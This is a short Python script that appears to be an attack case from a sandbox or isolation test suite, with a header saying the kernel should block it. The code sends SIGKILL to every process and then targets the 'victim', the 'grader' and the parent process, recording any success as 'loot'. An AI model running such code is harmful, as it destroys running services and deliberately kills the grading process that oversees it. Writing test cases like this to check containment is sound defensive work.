"""SIGKILL to every process there is."""

# /// attack
# held_by = "kernel"
# undiscriminating = "it would end the tests themselves, whose processes are root's too"
# ///

import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
for pid in (TARGETS["victim"], TARGETS["grader"], os.getppid()):
    if pid > 1:
        try:
            os.kill(pid, signal.SIGKILL)
            loot = pid
        except OSError:
            pass
